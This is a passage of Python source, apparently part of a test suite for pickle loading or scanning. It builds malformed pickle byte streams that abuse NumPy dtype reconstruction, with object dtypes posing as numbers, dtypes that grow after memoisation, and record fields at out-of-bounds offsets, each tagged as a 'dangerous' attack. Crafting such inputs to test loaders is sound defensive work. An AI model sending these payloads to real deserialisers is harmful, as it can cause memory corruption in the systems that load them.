    return b"\x80\x03" + made + state + after + STOP


def _fields(dtype: bytes, offset: int) -> bytes:
    """Return the names and the fields of a record of one field; the fields go to the memo."""
    field = dtype + b"J" + u4(offset) + b"\x86"
    return text("a") + b"\x85" + b"}q\x08" + text("a") + field + b"s"


_FLOAT = call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88") + (
    b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
)


@attack("NumPy dtypes", "dangerous")
def objects_that_are_called_numbers(marker: str) -> bytes:
    return _array(_dtype("O8", -1, 0))


@attack("NumPy dtypes", "dangerous")
def a_dtype_that_grows_when_an_array_has_it(marker: str) -> bytes:
    dtype = _dtype("S8", 8, 0) + b"q\x07"
    larger = b"h\x07" + _dtype("S8", 1 << 24, 0).partition(b"R")[2] + b"0"
    return _array(dtype, larger)


@attack("NumPy dtypes", "dangerous")
def a_field_behind_its_record(marker: str) -> bytes:
    return _array(_dtype("V8", 8, 16, _fields(_FLOAT, 1 << 24)))


@attack("NumPy dtypes", "dangerous")
def a_field_of_objects_that_are_called_numbers(marker: str) -> bytes:
    return _array(_dtype("V8", 8, 16, _fields(_dtype("O8", -1, 63), 0)))


@attack("NumPy dtypes", "dangerous")
def a_field_that_is_moved_afterwards(marker: str) -> bytes:
    moved = b"h\x08" + text("a") + _FLOAT + b"J" + u4(1 << 24) + b"\x86s0"
    return _array(_dtype("V8", 8, 16, _fields(_FLOAT, 0)), moved)


@attack("NumPy dtypes", "needs-trust")
def a_record_with_an_object(marker: str) -> bytes:
    made = call(name("numpy", "dtype"), text("V8"), b"\x89", b"\x88")
    fields = _fields(_dtype("O8", -1, 63), 0)
    return b"\x80\x03" + made + b"(K\x03" + text("|") + b"N" + fields + b"K\x08K\x01K\x1btb."


@attack("NumPy dtypes", "dangerous")
def objects_under_another_name(marker: str) -> bytes:
    return _array(_dtype("object", -1, 0))
